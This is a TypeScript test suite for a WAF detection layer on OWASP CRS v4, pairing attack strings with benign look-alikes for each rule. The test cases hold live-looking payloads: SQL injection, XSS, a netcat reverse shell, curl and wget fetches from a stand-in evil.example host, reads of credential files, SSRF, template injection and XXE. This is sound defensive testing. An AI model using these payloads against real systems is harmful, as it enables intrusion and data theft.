// Issue #14: Sidewall's detection layer (rules/sidewall-layer) on top of OWASP CRS v4 at PL1.
// Every rule gets attacks that must match it and benign look-alikes that must not; the
// transformation and variables it relies on get unit tests; the layer's placement (before
// CRS's blocking evaluation) and the `sidewall_layer: false` switch are checked through the
// real server process over real gRPC.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { HttpRequest } from '../src/engine/api.js';
import { Waf } from '../src/engine/waf.js';
import { crsLayoutEntry } from '../src/engine/crs-layout.js';
import { getTransformation } from '../src/transformations/index.js';
import { decodeEmbedded, decodedForms, DECODE_MAX_INPUT } from '../src/transformations/decode-embedded.js';
import { getVariable } from '../src/variables/registry.js';
import { CheckClient } from './helpers/check-client.js';
import { startServer, type ServerProcess } from './helpers/server-process.js';
import { sharedPath } from '../bench/lib/shared.js';

const CRS = sharedPath('crs');
const haveCrs = existsSync(join(CRS, 'rules'));
const crsMissing = haveCrs
  ? false
  : process.env.CI === 'true'
    ? false // in CI a missing corpus must fail, not skip: the tests below then throw
    : `CRS v4 not found under ${CRS} (set SIDEWALL_SHARED to the directory holding crs/)`;

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');

interface Req {
  uri?: string;
  method?: string;
  headers?: Array<[string, string]>;
  body?: string;
  contentType?: string;
}

function request(r: Req): HttpRequest {
  const headers: Array<[string, string]> = [
    ['host', 'api.example.com'],
    ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0'],
    ['accept', 'application/json'],
  ];
  if (r.contentType !== undefined) headers.push(['content-type', r.contentType]);
  const body = r.body === undefined ? null : Buffer.from(r.body, 'utf8');
  if (body !== null) headers.push(['content-length', String(body.length)]);
  headers.push(...(r.headers ?? []));
  return {
    id: 'test', method: r.method ?? (body === null ? 'GET' : 'POST'), uri: r.uri ?? '/', protocol: 'HTTP/1.1',
    headers, body, bodyPartial: false, clientIp: '10.1.2.3', clientPort: 40000, serverIp: '10.0.0.1', serverPort: 8080,
  };
}

function uriWith(name: string, value: string): string {
  return `/api/items?${name}=${encodeURIComponent(value)}`;
}

// ---- t:decodeEmbedded ------------------------------------------------------------------------

describe('t:decodeEmbedded', () => {
  it('is registered under its SecLang name', () => {
    assert.equal(getTransformation('decodeEmbedded'), decodeEmbedded);
    assert.equal(getTransformation('decodeembedded'), decodeEmbedded);
  });
  it('decodes base64 and base64url, with and without padding', () => {
    assert.equal(decodeEmbedded(b64("' OR 1=1--")), "' OR 1=1--");
    assert.equal(decodeEmbedded(b64('<script>alert(1)</script>').replace(/=+$/, '')), '<script>alert(1)</script>');
    assert.equal(decodeEmbedded(b64url('../../etc/passwd?x=>>')), '../../etc/passwd?x=>>');
  });
  it('decodes base64 tokens inside a value (data: URLs)', () => {
    assert.equal(decodeEmbedded('data:text/html;base64,' + b64('<svg onload=alert(1)>')), 'data:text/html;base64,<svg onload=alert(1)>');
  });
  it('leaves base64 that decodes to binary, ids and words alone', () => {
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    for (const v of [png, '550e8400-e29b-41d4-a716-446655440000', 'deadbeefcafebabe1234', 'HelloWorld12345678', 'abc', "O'Brien"]) {
      assert.equal(decodeEmbedded(v), v, v);
      assert.deepEqual(decodedForms(v), [], v);
    }
  });
  it('decodes nested URL encoding step by step, leaving + alone', () => {
    assert.deepEqual(decodedForms('%253Cscript%253E'), ['%3Cscript%3E', '<script>']);
    assert.equal(decodeEmbedded('a+b%2527'), "a+b'");
  });
  it('decodes HTML character references, CDATA and JS escapes', () => {
    assert.equal(decodeEmbedded('&#x3c;img src=x onerror=alert(1)&#x3e;'), '<img src=x onerror=alert(1)>');
    assert.equal(decodeEmbedded('<![CDATA[<script>]]>'), '<script>');
    assert.equal(decodeEmbedded('\\u003cscript\\u003e'), '<script>');
    assert.equal(decodeEmbedded('C:\\Windows\\win.ini'), 'C:\\Windows\\win.ini', 'a lone backslash is data');
  });
  it('turns JSON embedded in a string into its leaves and $-keys', () => {
    assert.deepEqual(decodedForms('{"q":"\\u003cb\\u003e","user":{"$ne":null},"n":[1,"x y"]}'), ['<b>', '$ne', '1', 'x y']);
    assert.equal(decodeEmbedded('"<script>"'), '<script>');
  });
  it('is bounded: oversized values untouched, depth limited', () => {
    const big = b64('x'.repeat(DECODE_MAX_INPUT));
    assert.equal(decodeEmbedded(big), big);
    let v = "' or 1=1";
    for (let i = 0; i < 20; i++) v = encodeURIComponent(v);
    assert.ok(decodedForms(v).length <= 32);
    assert.notEqual(decodeEmbedded(v), "' or 1=1", 'stops after DECODE_MAX_DEPTH steps');
  });
});

// ---- variables -------------------------------------------------------------------------------

/**
 * The entries a variable yields for `req`: one rule per expected entry (operator argument
 * `match`, reporting MATCHED_VAR_NAME) plus a rule counting the collection, so both the names and
 * the number of entries are checked.
 */
function entriesOf(variable: string, req: HttpRequest, expected: Array<[name: string, match: string]>): { names: string[]; count: boolean } {
  const rules = [
    'SecRuleEngine On', 'SecRequestBodyAccess On',
    'SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"',
    'SecRule REQUEST_HEADERS:Content-Type "^application/xml" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"',
    `SecRule &${variable} "@eq ${expected.length}" "id:99,phase:2,pass,log,msg:'count'"`,
    ...expected.map(([, match], i) => `SecRule ${variable} "${match}" "id:${100 + i},phase:2,pass,log,msg:'%{MATCHED_VAR_NAME}'"`),
  ];
  const matches = Waf.fromString(rules.join('\n') + '\n', '/virtual/vars.conf').evaluate(req).matches;
  return {
    names: expected.map((_, i) => matches.find((m) => m.id === 100 + i)?.msg ?? '(no match)'),
    count: matches.some((m) => m.id === 99),
  };
}

function assertEntries(variable: string, req: HttpRequest, expected: Array<[string, string]>): void {
  const got = entriesOf(variable, req, expected);
  assert.deepEqual(got.names, expected.map(([n]) => n));
  assert.ok(got.count, `${variable} has exactly ${expected.length} entries`);
}

describe('Sidewall variables', () => {
  it('are registered', () => {
    for (const n of ['CUSTOM_HEADERS', 'PATH_SEGMENTS', 'XML_DTD', 'DECODED_VALUES']) assert.ok(getVariable(n)?.keyed, n);
  });
  it('CUSTOM_HEADERS: only headers that are not standard browser/proxy/tracing headers', () => {
    assertEntries('CUSTOM_HEADERS', request({ headers: [['x-tenant', 'acme'], ['x-forwarded-for', '1.2.3.4'], ['traceparent', '00-abc'], ['sec-ch-ua', 'x'], ['X-Custom-Filter', 'a=b']] }), [
      ['CUSTOM_HEADERS:x-tenant', '@streq acme'], ['CUSTOM_HEADERS:X-Custom-Filter', '@streq a=b'],
    ]);
  });
  it('PATH_SEGMENTS: each segment, percent-decoded once', () => {
    assertEntries('PATH_SEGMENTS', request({ uri: '/api/v1//users/O%27Brien%2528/?q=1' }), [
      ['PATH_SEGMENTS:0', '@streq api'], ['PATH_SEGMENTS:1', '@streq v1'], ['PATH_SEGMENTS:2', '@streq users'], ['PATH_SEGMENTS:3', "@streq O'Brien%28"],
    ]);
  });
  it('XML_DTD: the DOCTYPE and each ENTITY of an XML body; nothing for XML without one', () => {
    const body = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b SYSTEM "file:///etc/passwd">]><r>1</r>';
    assertEntries('XML_DTD', request({ body, contentType: 'application/xml' }), [
      ['XML_DTD:DOCTYPE', '@beginsWith <!DOCTYPE r ['], ['XML_DTD:ENTITY', '@beginsWith <!ENTITY a'], ['XML_DTD:ENTITY', '@beginsWith <!ENTITY b SYSTEM'],
    ]);
    assertEntries('XML_DTD', request({ body: '<r><!-- <!DOCTYPE --><a>1</a></r>', contentType: 'application/xml' }), []);
  });
  it('DECODED_VALUES: decoded forms of args, JSON leaves, cookies, headers, path segments; not credentials nor plain values', () => {
    const req = request({
      uri: `/p/${encodeURIComponent(b64('seg value'))}?a=${encodeURIComponent(b64('arg value'))}&plain=hello`,
      headers: [['cookie', `c=${b64('cookie value')}`], ['x-data', b64('header value')], ['authorization', 'Basic ' + b64('user:pass')]],
      body: JSON.stringify({ j: b64('json value') }), contentType: 'application/json',
    });
    assertEntries('DECODED_VALUES', req, [
      ['DECODED_VALUES:ARGS:a', '@streq arg value'], ['DECODED_VALUES:ARGS:json.j', '@streq json value'],
      ['DECODED_VALUES:REQUEST_COOKIES:c', '@streq cookie value'], ['DECODED_VALUES:REQUEST_HEADERS:x-data', '@streq header value'],
      ['DECODED_VALUES:PATH_SEGMENTS:1', '@streq seg value'],
    ]);
  });
  it('DECODED_VALUES: each XML text node decoded on its own (XML:/* stays their concatenation)', () => {
    const body = `<?xml version="1.0"?><r><q>${b64('first value')}</q><n>1</n><c><![CDATA[${b64('cdata value')}]]></c><a k="${b64('attr value')}"/></r>`;
    assertEntries('DECODED_VALUES', request({ body, contentType: 'application/xml' }), [
      ['DECODED_VALUES:XML:/*', '@streq first value'], ['DECODED_VALUES:XML:/*', '@streq cdata value'], ['DECODED_VALUES:XML://@*', '@streq attr value'],
    ]);
    assertEntries('XML:/*', request({ body, contentType: 'application/xml' }), [['XML:/*', `@streq ${b64('first value')}1${b64('cdata value')}`]]);
  });
});

// ---- rules -----------------------------------------------------------------------------------

interface RuleCase {
  id: number;
  name: string;
  attacks: Req[];
  benign: Req[];
}

const q = (v: string, name = 'q'): Req => ({ uri: uriWith(name, v) });
const h = (name: string, v: string): Req => ({ headers: [[name, v]] });
const json = (doc: unknown): Req => ({ body: JSON.stringify(doc), contentType: 'application/json' });
const xml = (body: string): Req => ({ body, contentType: 'application/xml' });

const CASES: RuleCase[] = [
  {
    id: 9510100, name: 'SQLi (libinjection) in custom headers / decoded values',
    attacks: [h('x-user-id', "1' OR '1'='1"), q(b64("admin' OR 1=1--")), h('x-filter', '1 UNION SELECT password FROM users')],
    benign: [h('x-user-id', '12345'), q(b64('a perfectly normal sentence')), h('x-note', "O'Brien's order")],
  },
  {
    id: 9510101, name: 'SQL keywords in custom headers / decoded values',
    attacks: [h('x-sort', 'name; DROP TABLE users'), q(b64("1' and sleep(5)#")), h('x-q', "x' or 'a'='a")],
    benign: [h('x-sort', 'name,-created_at'), q(b64('select the best option from the list')), h('x-q', 'union of two sets')],
  },
  {
    id: 9510102, name: 'SQL boolean and column-count probes in any value',
    attacks: [q('ORDER BY 10'), q('order by 3,4--'), q('or 1=1'), q('OR x=y--'), q('AND 1=1--'), q("AND 7300=7300 AND 'pKlZ'='pKlY"), q('WHERE 1=1 AND 1=0'), q('or true--'), q("') or ('a'='a")],
    benign: [q('Order by date, please'), q('order by 10am tomorrow'), q('or maybe not'), q('and/or'), q('x = y + 1'), q('rock and roll'), q("It's a 1 = 1 match, isn't it? Or is it 2 - 1?"),
      q('Where can I find the union of both sets?'), q('Black and white = classic'), q('true'), q('or')],
  },
  {
    id: 9510110, name: 'XSS (libinjection) in custom headers / decoded values',
    attacks: [h('x-display', '<script>alert(1)</script>'), q(b64('<img src=x onerror=alert(1)>'))],
    benign: [h('x-display', 'compact'), q(b64('Tom & Jerry <3 forever'))],
  },
  {
    id: 9510111, name: 'XSS patterns in custom headers / decoded values / path',
    attacks: [h('x-ref', 'javascript:alert(document.cookie)'), q('%253Csvg%2520onload%253Dalert(1)%253E'), { uri: '/p/' + encodeURIComponent('<iframe src=//evil>') }],
    benign: [h('x-ref', 'https://example.com/docs#javascript'), q(b64('Use the onload event for images')), { uri: '/p/scripts' }],
  },
  {
    id: 9510120, name: 'OS command injection in custom headers / decoded values',
    attacks: [h('x-host', '127.0.0.1; cat /etc/passwd'), q(b64('$(id)')), h('x-cmd', '| whoami'), q(b64('`uname -a`')), h('x-run', 'cat /etc/hosts'), h('x-run', 'ls -la /tmp')],
    benign: [h('x-host', 'db-1.internal'), q(b64('cats and dogs; ids and names')), h('x-cmd', 'status'), h('x-note', 'cat lovers unite: the best toys'),
      h('x-note', 'Run `npm install` then `npm test`'), h('x-note', 'Ping me when the build is done, and echo the result'), h('x-sort', 'id')],
  },
  {
    id: 9510120, name: 'OS command injection: every command position (separator, `…`, $(…), start of value)',
    attacks: [h('x-a', 'x;/usr/bin/id\\n'), h('x-a', 'a&&cat${IFS}/etc/hosts'), h('x-a', '$(ls/tmp)'), h('x-a', '`id`'), h('x-a', 'x|nc -e /bin/sh 10.0.0.1 4444'),
      h('x-a', '& netsh firewall set opmode disable'), h('x-a', 'x\nwhoami'), q(b64('| python3 -c "import os"')), h('x-a', '$(`dir`)'), h('x-a', "'\\n/bin/ls -al\\n'"),
      h('x-a', '; sysinfo')],
    benign: [h('x-a', 'idle'), h('x-a', 'names; ids; categories'), h('x-a', 'cats & dogs'), h('x-a', 'the shell (sh) is fine'), h('x-a', 'echo chamber'),
      h('x-a', 'A|B|C'), h('x-a', 'sleeping bag'), h('x-a', 'C:\\new\\notes.txt'), h('x-a', 'dir'), h('x-a', 'sort; direction=asc')],
  },
  {
    id: 9510121, name: 'OS command injection: code calling a shell, Windows commands, probes',
    attacks: [q("; system('curl https://evil.example/x');"), q("| system('sleep 5');"), q("exec('pwd')"), q("${@print(system($_SERVER['HTTP_USER_AGENT']))}"),
      q("';phpinfo();//"), q('os.system("id")'), q('& net view'), q('dir C:\\'), q('type C:\\boot.ini'), q('sleep 1'), q('which nc'), h('x-probe', 'which python3'),
      q('ifconfig'), q('whoami /all'), q('type %SYSTEMROOT%\\repair\\SAM'), q('&& reg add "HKLM\\System\\x" /v y /d 0 /f'), q('wget https://evil.example/x.sh')],
    benign: [q('db.exec("SELECT 1")'), q('$this->exec($query)'), q('the system (as designed) works'), q('net income grew'), q('a net view of the city'),
      q('which one is better?'), q('which nc is closest'), q('sleep 8 hours a night'), q('C:\\Users\\Public\\notes.txt', 'file'), q('type C: drive', 'q'), q('Sleep well'),
      q('whoami page'), q('ifconfig output explained'), q('Register & reg add-ons'), q('use wget or curl to download'), q('%SYSTEMROOT% is a variable')],
  },
  {
    id: 9510150, name: 'path traversal in custom headers / decoded values',
    attacks: [h('x-file', '../../../etc/shadow'), q(b64('..\\..\\windows\\win.ini')), h('x-template', '....//....//etc')],
    benign: [h('x-file', 'reports/2024/q1.pdf'), q(b64('wait... what?')), h('x-template', 'v1.2.3')],
  },
  {
    id: 9510151, name: 'path traversal through evasive encodings',
    attacks: [q('%c0%ae%c0%ae%c0%afetc%c0%afpasswd', 'file'), q('..%e0%80%af..%e0%80%afboot.ini', 'file'), q('%f0%80%80%ae%f0%80%80%ae/x', 'file'), q('..%u2216..%u2216windows', 'file'),
      q('%%32%%65%%32%%65/etc/hosts', 'file'), q('0x2e0x2e/etc', 'file'), q('..0x2fetc0x2fissue', 'file'), q('.?%bg%qf.?%bg%qfetc', 'file'), h('x-file', '%25c0%25af..%25c0%25af')],
    benign: [q('50%off today', 'q'), q('100%', 'q'), q('caf%C3%A9', 'q'), q('Loading...', 'q'), q('if (c == 0x2f) return;', 'code'), q('Wait..?', 'q'),
      q('caf%u00e9 cr%u00e8me', 'q'), q('0x2e is a dot', 'q'), q('v1.2..3', 'q'), q('size 10%-20%', 'q')],
  },
  {
    id: 9510160, name: 'OS file names in custom headers / decoded values / path',
    attacks: [h('x-file', '/etc/passwd'), q(b64('C:\\boot.ini')), { uri: '/files/' + encodeURIComponent('/proc/self/environ') }],
    benign: [h('x-file', '/var/tmp/upload-123'), q(b64('password reset for etc. users')), { uri: '/files/etc' }],
  },
  {
    id: 9510170, name: 'PHP stream wrappers',
    attacks: [q('php://filter/convert.base64-encode/resource=index.php', 'page'), q('expect://id', 'page')],
    benign: [q('https://php.net/manual', 'page'), q('convert to base64', 'page')],
  },
  {
    id: 9510300, name: 'NoSQL injection',
    attacks: [{ uri: '/login?user[$ne]=x&pass[$ne]=x' }, json({ user: 'admin', pass: { $gt: '' } }), q("true, $where: '1 == 1'"), q("' && this.password.match(/.*/)//"), q('db.users.find({})'), q('";return(true);var xyz=\'a'),
      { uri: '/users/' + encodeURIComponent("true, $where: '1 == 1'") }, xml('<?xml version="1.0"?><login><user>admin</user><pass>{"$ne": 1}</pass></login>')],
    benign: [q('costs $5 where available'), json({ user: 'admin', pass: 's3cr3t!' }), q('this.is.fine'), q('neither here nor there')],
  },
  {
    id: 9510350, name: 'LDAP / XPath injection',
    attacks: [q('*)(uid=*))(|(uid=*'), q('admin*)((|userPassword=*)'), q('*(|(objectclass=*))'), q("x' or name()='username' or 'x'='y"),
      { uri: '/people/' + encodeURIComponent('*)(uid=*))(|(uid=*') }, xml('<?xml version="1.0"?><q><cn>admin*)((|userPassword=*)</cn></q>')],
    benign: [q('John (Jack) Smith'), q('5 * (3 + 2)'), q('**bold** text (see notes)'), q('name()'), { uri: '/people/' + encodeURIComponent('Smith (John)') }, xml('<q><cn>Smith (John)</cn></q>')],
  },
  {
    id: 9510400, name: 'mail header injection',
    attacks: [q('me@example.com\r\nBcc: victim@example.org', 'email'), q('Hello\nContent-Type: text/html', 'subject')],
    benign: [q('Dear team,\nto: do list attached\nthanks', 'message'), q('me@example.com', 'email'), q('Line one\nLine two', 'message')],
  },
  {
    id: 9510450, name: 'SSRF to cloud metadata',
    attacks: [q('http://169.254.169.254/latest/meta-data/iam/', 'url'), q('http://metadata.google.internal/computeMetadata/v1/', 'url'), q('http://[fd00:ec2::254]/', 'url'), q('http://2852039166/', 'url')],
    benign: [q('https://cdn.example.com/img/169254.png', 'url'), q('https://metadata.example.com/', 'url'), q('version 1.169.254', 'q')],
  },
  {
    id: 9510451, name: 'SSRF via obfuscated loopback / internal schemes',
    attacks: [q('http://0x7f000001/admin', 'url'), q('http://2130706433/', 'url'), q('gopher://127.0.0.1:6379/_INFO', 'url'), q('http://[::]:22/', 'url')],
    benign: [q('https://api.example.com/v2', 'url'), q('http://localhost:3000/callback', 'redirect_uri'), q('0x7f000001', 'q')],
  },
  {
    id: 9510500, name: 'server-side template injection',
    attacks: [q('{{7*7}}'), q("{{7*'7'}}"), q('<%= 7 * 7 %>'), q('${3*3}'), q('#{7*7}'), q("{{config.items()}}"), q('${T(java.lang.Runtime).getRuntime().exec("id")}'), q('{{cycler.__init__.__globals__.os}}'),
      q("{{'a'.toUpperCase()}}"), q('{{ [].class.base.subclasses() }}')],
    benign: [q('Hello {{name}}'), q('${user.id}'), q('price: #{amount}'), q('[[wiki link]]'), q('{% raw %}'), q('email me @(home)'), q('Hello {{ user.name|title }}, order {{order.id}}'), q("{{ 'greeting' }}")],
  },
  {
    id: 9510650, name: 'open redirect: a target that hides another host',
    attacks: [q('//evil.example/', 'next'), q('/\\evil.example', 'next'), q('\\/\\/evil.example/x', 'next'), q('///%09/evil.example', 'returnTo'),
      q('/https://evil.example/', 'next'), q('/%09/javascript:alert(1)', 'next'), q('javascript://trusted.example/%0aalert(1)', 'url'),
      q('https://trusted.example.com@evil.example/', 'url'), q('http:trusted.example.com@evil.example', 'url'), q('http://3627734734/', 'url'),
      q('http://0330.072.0326.0316/', 'url'), q('http://0xd8.3856078/', 'url'), q('http://[::ffff:216.58.214.206]/', 'url'),
      q('http://evil.example\\trusted.example.com', 'url'), q('https:/\\evil.example', 'url'), h('x-return-to', '//evil.example'),
      q('http://00330.0x3a.54990/', 'url'), q('http://472.314.470.462', 'url'), q('http://[::216.58.214.206]/', 'url'), q('https:///evil.example', 'url'),
      q('https://%09/evil.example', 'url'), q('https:evil.example', 'url'), q('/?next=//evil.example&x=1', 'q'),
      { uri: '/go/' + encodeURIComponent('//evil.example') }, json({ redirect: '////evil.example/' })],
    benign: [q('/account/settings', 'next'), q('https://app.example.com/oauth/callback', 'redirect_uri'), q('http://localhost:3000/callback', 'redirect_uri'),
      q('https://maps.example.com/@51.5074,-0.1278,15z', 'url'), q('jane.doe@example.com', 'email'), q('\\\\fileserver.corp.example\\share\\a.txt', 'path'),
      q('ftp://anonymous@ftp.example.com/pub', 'url'), q('// TODO: fix the. thing', 'note'), q('see http: the protocol, version 1.1', 'q'),
      q('data:image/png;base64,iVBORw0KGgo=', 'avatar'), q('/home/alice/projects/app', 'dir'), q('https://example.com/a\\b', 'q'),
      q('http://10.0.0.1:8080/health', 'url'), q('http://192.168.1.20/', 'url'), q('https://2024.example.com/', 'url'), q('https://example.com/?next=/account', 'url'),
      q('https://idp.example.com/authorize?redirect_uri=https://app.example.com/cb', 'login'), q('file:///tmp/report.pdf', 'url'), q('http://[2001:db8::1]/', 'url')],
  },
  {
    id: 9510600, name: 'XXE declarations in an XML body',
    attacks: [xml('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>1</foo>'), xml('<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>'), xml('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><lolz>1</lolz>')],
    benign: [xml('<?xml version="1.0"?><order><id>1</id><note>&lt;!ENTITY&gt; is XML</note></order>'), xml('<!DOCTYPE html><p>hi</p>')],
  },
  {
    id: 9510601, name: 'XXE declarations in a value',
    attacks: [q('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hosts">]><x>&a;</x>', 'xml'), q(b64('<!ENTITY % p SYSTEM "http://evil/x">'), 'data')],
    benign: [q('<!DOCTYPE html><html></html>', 'page'), q('an entity of the system', 'q')],
  },
];

describe('Sidewall layer rules on CRS v4 PL1 (CRS directory mode)', { skip: crsMissing }, () => {
  let waf: Waf;
  before(() => {
    if (!haveCrs) throw new Error(`CRS v4 not found under ${CRS} (set SIDEWALL_SHARED)`);
    waf = Waf.fromFile(CRS);
  });
  const ids = (r: Req): number[] => waf.evaluate(request(r)).matches.map((m) => m.id);

  for (const c of CASES) {
    it(`${c.id} ${c.name}`, () => {
      for (const a of c.attacks) assert.ok(ids(a).includes(c.id), `attack not matched by ${c.id}: ${JSON.stringify(a)} → ${ids(a).join(',')}`);
      for (const b of c.benign) {
        const got = ids(b).filter((id) => id >= 9510000 && id <= 9510999);
        assert.deepEqual(got, [], `benign look-alike matched the layer: ${JSON.stringify(b)}`);
      }
    });
  }

  it('an attack only the layer sees is blocked by CRS\'s own evaluation (score counts)', () => {
    const v = waf.evaluate(request(h('x-account', "1' UNION SELECT password FROM users--")));
    const got = v.matches.map((m) => m.id);
    assert.ok(got.includes(9510100) && got.includes(949110), got.join(','));
    assert.ok(got.indexOf(9510100) < got.indexOf(949110));
    assert.ok(!got.some((id) => id >= 941000 && id < 943000), 'CRS itself did not see it');
  });

  it('the layer is composed before REQUEST-949 and can be left out', () => {
    const on = crsLayoutEntry(CRS).text;
    const layer = on.indexOf('sidewall-layer');
    assert.ok(layer > on.indexOf('REQUEST-944') && layer < on.indexOf('REQUEST-949'), 'between 944 and 949');
    assert.ok(!crsLayoutEntry(CRS, { sidewallLayer: false }).text.includes('sidewall-layer'));
  });

  it('tx.sidewall_layer=0 skips every layer rule', () => {
    const text = crsLayoutEntry(CRS).text + '\nSecAction "id:1000,phase:1,pass,nolog,setvar:tx.sidewall_layer=0"\n';
    const off = Waf.fromString(text, join(CRS, '(test-layer-off)'));
    const r = request(h('x-account', "1' UNION SELECT password FROM users--"));
    assert.ok(ids(h('x-account', "1' UNION SELECT password FROM users--")).includes(9510100));
    assert.deepEqual(off.evaluate(r).matches.map((m) => m.id).filter((id) => id >= 9510000 && id <= 9510999), []);
  });
});

// ---- real server: default on, `sidewall_layer: false` off ------------------------------------

describe('sidewall_layer through the real server (gRPC)', { skip: crsMissing }, () => {
  let on: ServerProcess | null = null;
  let off: ServerProcess | null = null;
  before(async () => {
    [on, off] = await Promise.all([
      startServer({ rulesFile: CRS, args: ['--mode', 'block'], readyTimeoutMs: 60_000 }),
      startServer({ rulesFile: CRS, args: ['--mode', 'block'], config: 'sidewall_layer: false\n', readyTimeoutMs: 60_000 }),
    ]);
  });
  after(async () => {
    await Promise.all([on?.stop(), off?.stop()]);
  });

  it('denies a base64 SQL injection with the layer and allows it without', async () => {
    const spec = { path: uriWith('filter', b64("' OR 1=1 UNION SELECT password FROM users--")) };
    for (const [server, expected] of [[on!, 'deny'], [off!, 'allow']] as const) {
      const client = new CheckClient(server.grpcAddress);
      try {
        const r = await client.check(spec);
        assert.equal(String(r.metadata['waf_action']), expected);
        const ruleIds = (r.metadata['waf_rule_ids'] as number[] | undefined) ?? [];
        assert.equal(ruleIds.some((id) => id >= 9510000 && id <= 9510999), expected === 'deny', ruleIds.join(','));
      } finally {
        client.close();
      }
    }
  });
});
